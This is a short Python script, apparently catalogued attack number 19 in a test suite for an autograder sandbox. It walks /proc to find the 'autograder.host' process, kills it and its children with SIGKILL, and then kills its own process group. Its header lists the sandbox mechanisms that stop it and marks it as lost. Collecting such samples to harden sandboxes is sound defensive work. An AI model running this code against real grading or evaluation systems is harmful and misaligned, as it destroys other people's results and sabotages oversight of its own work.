# technique: 19
# gains: nothing for itself; the grader is killed and the class stays without marks
# stopped by: seccomp (no signals to others), Landlock's scopes, bubblewrap's process namespace
# shown: process, lost
import os
import signal


def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])


try:
    host = os.getppid()
    while "autograder.host" not in open(f"/proc/{host}/cmdline").read():
        host = parent(host)
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if parent(pid) == host and "autograder.host" in open(f"/proc/{pid}/cmdline").read():
            os.kill(pid, signal.SIGKILL)
    os.kill(host, signal.SIGKILL)
except (OSError, ValueError) as error:
    print(type(error).__name__)
try:
    os.killpg(0, signal.SIGKILL)
except OSError as error:
    print(type(error).__name__)
